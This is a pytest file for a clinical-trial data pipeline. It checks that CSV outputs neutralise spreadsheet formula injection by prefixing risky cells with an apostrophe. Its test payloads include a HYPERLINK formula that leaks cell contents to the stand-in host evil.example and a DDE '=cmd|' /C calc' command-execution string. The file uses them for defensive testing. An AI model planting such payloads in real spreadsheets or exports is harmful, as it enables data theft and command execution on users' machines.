"""Formula injection: every CSV the pipeline writes is safe to open in a spreadsheet.

Formula text in a free-text CRF field is data, not a validation failure (a
participant may well write "-2 days off" or "=)"): validation accepts it, the
validated tables keep it verbatim, and every CSV written under results/ goes
through io.write_csv, which puts an apostrophe before text cells starting with
=, +, -, @, tab or carriage return while numbers (also negative ones) stay numbers.

The payloads are typed into cells of the all-records export (data/raw/records.csv),
named as REDCap names them: participant, event, field, repeat instrument and instance.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from feasibility.io import write_csv
from feasibility.redcap.report import failures_frame
from feasibility.redcap import Failure

from projectcopy import copy_project, results_of, run_snakemake
from records_helpers import record_of, set_value

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {  # (participant, event, field, repeat instrument, instance) -> text typed into a free-text field
    (
        "PP23",
        "intervention",
        "ae_description",
        "adverse_event",
        "1",
    ): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ("PP03", "intervention", "sc_details", "status_change", "1"): "+1+1",
    ("PP03", "intervention", "sc_details", "status_change", "2"): "@SUM(A1)",
    # PP01 was not placed: the placement role is hidden by its branching logic, so the value
    # reaches a written CSV (a warning in results/validation/failures.csv)
    ("PP01", "intervention", "plc_role", "", ""): "-2+3",
    ("PP04", "week14", "emp_job_title", "", ""): "=cmd|' /C calc'!A0",
}
# a record ID may start with '-' (REDCap's record names are free text); PP01's record is
# named in that warning
RENAMED = "PP01"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def field_form(raw, field: str) -> str:
    dictionary = pd.read_csv(raw / "data_dictionary.csv", dtype=str, keep_default_na=False)
    return dictionary.set_index("Variable / Field Name").at[field, "Form Name"]


def unsafe_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would take for a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_START) and not _is_number(cell)
    ]


def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    df = pd.DataFrame(
        {
            "text": [*PAYLOADS.values(), "\tTab", "plain", "-0.4 (-2.9 to 2.0)"],
            "number": [-0.4, 1.0, -12.0, 0.0, 3.5, -1e-3, 2.0, None],
        }
    )
    write_csv(tmp_path / "out.csv", df)
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert unsafe_cells(text) == []
    back = pd.read_csv(tmp_path / "out.csv")
    # each formula kept, behind one apostrophe; ordinary text untouched
    assert back["text"].tolist() == ["'" + p for p in PAYLOADS.values()] + [
        "'\tTab",
        "plain",
        "'-0.4 (-2.9 to 2.0)",
    ]
    assert back["number"].dtype == float and back["number"].iloc[0] == -0.4


def test_a_failing_cell_written_as_csv_is_neutralised(tmp_path):
    # a formula typed into a coded field fails validation; its value in a CSV of failures is inert
    failure = Failure(
        "records.csv", 5, "S004", "baseline_arm_1", "", "eq5d_vas", "=cmd|' /C calc'!A0", "not a number"
    )
    write_csv(tmp_path / "failures.csv", failures_frame([failure]))
    text = (tmp_path / "failures.csv").read_text(encoding="utf-8")
    assert unsafe_cells(text) == []
    assert "'=cmd|' /C calc'!A0" in pd.read_csv(tmp_path / "failures.csv")["value"].tolist()


@pytest.mark.slow
def test_pipeline_with_formulas_in_free_text_writes_only_safe_csvs(tmp_path):
    proj = tmp_path / "proj"
    proj.mkdir()
    copy_project(proj)
    raw = proj / "data" / "raw"
    old = record_of(raw, RENAMED)
    for (who, event, field, instrument, instance), text in PAYLOADS.items():
        set_value(raw, who, event, field, text, instrument, instance)
    new = "-" + old
    records = raw / "records.csv"
    records.write_text(
        re.sub(rf"^{old},", f"{new},", records.read_text(encoding="utf-8"), flags=re.M), encoding="utf-8"
    )

    res = run_snakemake(proj)
    assert res.returncode == 0, (res.stdout + res.stderr)[-3000:]

    # validation accepted the free text and kept it verbatim
    validated = results_of(proj) / "validated"
    for (who, event, field, instrument, instance), text in PAYLOADS.items():
        form = pd.read_parquet(validated / f"{instrument or field_form(raw, field)}.parquet")
        assert (form[field] == text).fillna(False).any(), (who, field)

    written = sorted((results_of(proj)).rglob("*.csv"))
    assert len(written) >= 10
    unsafe = {
        p.relative_to(proj).as_posix(): cells
        for p in written
        if (cells := unsafe_cells(p.read_text(encoding="utf-8")))
    }
    assert unsafe == {}
    # the renamed record reached a written CSV, neutralised (so the check above was exercised)
    cells = [
        c for p in written for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8"))) for c in row
    ]
    assert "'" + new in cells and new not in cells
    assert "'-2+3" in cells and "-2+3" not in cells  # the hidden placement role, too
    # and negative numbers are still numbers somewhere in the tables
    assert any(c.startswith("-") and _is_number(c) for c in cells)
